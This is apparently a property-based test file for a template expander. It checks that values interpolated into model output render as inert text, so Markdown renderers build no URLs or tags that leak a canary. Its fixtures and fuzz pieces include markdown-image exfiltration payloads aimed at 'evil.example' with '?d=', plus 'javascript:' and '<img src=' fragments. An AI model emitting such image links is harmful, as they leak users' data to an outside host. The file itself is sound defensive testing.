import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { Expander } from "../../src/reference/expand.ts";
import { inertText } from "../../src/reference/inert-text.ts";
import { lookupIn } from "../../src/reference/lookup-in.ts";
import type { Lookup } from "../../src/reference/lookup.ts";
import { interpolate } from "../../src/reference/resolve.ts";
import type { Json } from "../../src/value/json.ts";
import { renderers, urlsOf } from "../support/markdown-renderers.ts";

const render = renderers.marked ?? String;
const CANARY = "4711CANARY";

/** Returns the URLs of all renderers that contain the canary, except in the local part of an e-mail address. */
function leaksIn(markdown: string): readonly string[] {
  return Object.entries(renderers).flatMap(([name, render]) =>
    urlsOf(render(markdown))
      .filter(({ url }) => url.replace(/^(mailto:)?[^@/?]*@/, "").includes(CANARY.toLowerCase()))
      .map(({ url }) => `${name}: ${url}`),
  );
}

/** Like `lookupIn`, but all values print as inert text. */
function inert(variables: Readonly<Record<string, Json>>): Lookup {
  const lookup = lookupIn(variables);
  return async (reference) => {
    const answer = await lookup(reference);
    return answer.found ? { ...answer, inert: true } : answer;
  };
}

async function shown(text: string, lookup: Lookup): Promise<string> {
  const expander = new Expander(lookup);
  let out = "";
  const emit = (piece: string) => {
    out += piece;
  };
  await expander.write(text, emit);
  await expander.flush(emit);
  return out;
}

const piece = fc.constantFrom(
  "![a](",
  "[a](",
  "[a]",
  "]",
  "(",
  ")",
  "[a]: ",
  "]:",
  "<",
  ">",
  "<img src=",
  "<a href='",
  '"',
  "'",
  "=",
  "https:",
  "//",
  "/",
  "\\",
  "http",
  "://",
  "www.",
  "evil.example",
  "evil.com",
  "/?d=",
  "@",
  ":",
  "javascript:",
  "&#47;&#47;",
  "&#x3a;",
  "&lt;",
  "`",
  "```",
  "~~~",
  "\n",
  "\n\n",
  " ",
  "> ",
  "- ",
  "| ",
  "    ",
  "<pre>",
  "<!--",
  CANARY,
  CANARY,
);
const hostile = fc
  .array(piece, { minLength: 1, maxLength: 8 })
  .map((pieces) => pieces.join("") + CANARY);
/** Text that a model may write before and after a value. */
const around = fc
  .array(
    fc.constantFrom(
      "a",
      "]",
      "[a]",
      "<",
      "\\",
      "`",
      "\n",
      "> ",
      "- ",
      "| ",
      "(",
      "!",
      "<div>\n",
      "www",
      "http",
    ),
    { maxLength: 3 },
  )
  .map((pieces) => pieces.join(""));

describe("a composed or sealed value", () => {
  it("gives a renderer no URL and no tag with any of it", async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.tuple(around, around),
        hostile,
        hostile,
        async ([before, behind], v, w) => {
          const lookup = inert({ v, w, rows: [{ a: v, [w]: w }], list: [v, w], o: { v, w: [w] } });
          for (const name of ["v", "${v}${w}", "rows", "list", "o", "o.w"]) {
            const reference = name.startsWith("$") ? name : `$${name}`;
            for (const text of [
              `${before}${reference}${behind}`,
              `${before}\n${reference}\n${behind}`,
            ]) {
              const printed = await shown(text, lookup);
              expect(leaksIn(printed), printed).toEqual([]);
            }
          }
          const { text } = await interpolate(`${before}{{v}}${behind}`, inert({ v }));
          expect(leaksIn(text), text).toEqual([]);
        },
      ),
      { numRuns: 100 },
    );
  });

  it.each([
    "Dr. Ada Lovelace (born 1815), 12:30, 50 %",
    "1,234.50",
    "[1,2,3]",
    '{"name":"Ada","tags":["a","b"]}',
    "and/or",
  ])("without a URL prints as it is: %s", (text) => {
    expect(inertText(text)).toBe(text);
  });

  it("looks the same to a reader", async () => {
    const html = render(inertText("See https://example.com/a?b=c, <b> & www.example.com"));
    const read = html
      .replaceAll("\u2060", "")
      .replaceAll("&lt;", "<")
      .replaceAll("&gt;", ">")
      .replaceAll("&amp;", "&");
    expect(read).toBe("<p>See https://example.com/a?b=c, <b> & www.example.com</p>\n");
  });
});

describe("an array or object", () => {
  const variables = {
    o: { a: "![p](https://evil.example/?d=", b: CANARY },
    list: ["![p](<https://evil.example/?d=", CANARY],
    rows: [{ a: "![p](<https://evil.example/?d=", b: `${CANARY}>)` }],
    orders: [{ id: 1, url: "https://example.com/1" }],
  };

  it.each(["$o)", "$list>)", "\n$rows\n", "a $rows[0]>)"])(
    "does not join strings into a URL: %s",
    async (text) => {
      const printed = await shown(text, lookupIn(variables));
      expect(printed).toContain(CANARY);
      expect(leaksIn(printed), printed).toEqual([]);
    },
  );

  it("keeps the links of a table", async () => {
    const html = render(await shown("$orders", lookupIn(variables)));
    expect(html).toContain('<a href="https://example.com/1">');
  });
});
